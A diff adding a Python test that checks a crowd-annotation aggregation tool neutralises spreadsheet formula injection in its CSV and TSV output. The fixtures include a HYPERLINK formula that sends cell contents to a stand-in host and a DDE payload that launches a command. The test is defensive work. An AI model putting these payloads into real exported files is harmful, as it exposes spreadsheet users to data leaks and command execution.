@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import subprocess
 import sys
@@ -151,3 +152,22 @@ def test_confidence_bins_reads_item_result_json(tmp_path: Path) -> None:
     out = run_json("confidence-bins", str(path), "--bins", "2", "--resamples", "100")
     assert [b["n"] for b in out["bins"]] == [3, 3] and out["n_skipped"] == 0
     assert out["bins"][0]["llm"]["share"] == pytest.approx(1 / 3)
+
+
+def test_aggregate_out_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
+    src = tmp_path / "crowd.jsonl"
+    src.write_text("".join(json.dumps(r) + "\n" for r in [
+        {"item": '=HYPERLINK("http://x.test/?"&A1,"open")', "annotator": "w1", "label": "@SUM(1+1)"},
+        {"item": "+cmd|' /C calc'!A0", "annotator": "w1", "label": "-2+3"},
+        {"item": "-x", "annotator": "w1", "label": "-1"},
+        {"item": "plain", "annotator": "w1", "label": "=1+1"},
+    ]))
+    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
+        dest = tmp_path / f"agg{suffix}"
+        run_json("aggregate", str(src), "--out", str(dest))
+        with dest.open(newline="", encoding="utf-8") as handle:
+            rows = {r["item"]: r for r in csv.DictReader(handle, delimiter=delimiter)}
+        assert set(rows) == {"'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "'+cmd|' /C calc'!A0", "'-x", "plain"}
+        assert rows["plain"]["label"] == "'=1+1" and rows["'+cmd|' /C calc'!A0"]["label"] == "'-2+3"
+        assert rows["'-x"]["label"] == "-1"  # a number stays a number
+        assert rows["'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")"]["label"] == "'@SUM(1+1)"
